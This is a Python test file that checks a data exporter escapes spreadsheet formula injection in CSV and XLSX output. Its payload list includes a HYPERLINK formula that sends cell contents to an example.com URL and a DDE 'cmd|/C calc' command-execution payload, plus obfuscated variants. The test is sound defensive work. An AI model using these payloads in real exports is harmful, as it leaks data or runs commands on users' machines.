"""Formulas: no text of somebody's is one, in any program that opens a CSV or a sheet."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from belvo_data.store.read.export import export
from tests.sheets import in_csv, sheet

if TYPE_CHECKING:
    from pathlib import Path

    import duckdb

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com/?"&A2;"ver")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+55 11 90000-0000",
    "-5",
    "  =1",
    "\t=1",
    "\tx",
    "\r=1",
    "\n=1",
    "\N{NO-BREAK SPACE}=1",
    "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1",
    "\x1b=1",
    "\x00=1",
    '"=1"',
    '" =1',
    *(f"{sign}1" for sign in "＝＋－＠﹢﹣﹦﹫−"),  # noqa: RUF001  as wide as a letter of Chinese
]
LATER = ["a;=1", "a; -b", 'a;"=1"', "a\n=1", "a\r\n+1", "a\t@1", "a\r-1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_in_csv_an_apostrophe_stands_before_text_that_may_be_taken_for_a_formula(
    tmp_path: Path, text: str
) -> None:
    kept = text.replace("\r", "\n").translate({0: None, 27: None})
    [_, [said, amount]] = in_csv(tmp_path, text)
    assert (said[0], amount) == ("'", "-5.50")
    assert said.replace("'", "") == kept.replace("'", "")


@pytest.mark.parametrize("text", [*FORMULAS, *LATER])
@pytest.mark.parametrize("between", [",", ";", "\t"])
def test_in_csv_no_text_begins_a_formula_whatever_is_taken_for_what_parts_columns(
    tmp_path: Path, text: str, between: str
) -> None:
    cells = [cell.strip(' "\t\u200b\ufeff\xa0') for row in in_csv(tmp_path, text, between) for cell in row]
    assert [cell for cell in cells if cell[:1] in set("=+-@＝＋－＠﹢﹣﹦﹫−") - {"-"}] == []  # noqa: RUF001
    assert {cell for cell in cells if cell.startswith("-")} <= {"-5.50"}


@pytest.mark.parametrize(
    "text", ["a = b", "a-b", "a@b.com", "1;2", "'=1", "¿=1?", "(-5)", "São João", "", "☃"]
)
def test_other_text_in_csv_is_as_it_was(tmp_path: Path, text: str) -> None:
    assert in_csv(tmp_path, text)[1][0] == text


def test_text_in_a_sheet_is_never_a_formula_and_an_amount_is_a_number(
    story: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    """
    2026-01-09 checking -250.25 MXN - =1+1
    """
    cells = sheet(export(story, tmp_path, ["transactions"], "xlsx")[0][0])
    assert (cells["description"], cells["signed_amount"]) == (("inlineStr", "=1+1"), ("n", "-250.2500"))
    assert cells["value_date"] == ("n", "46031")  # days since 1899-12-30
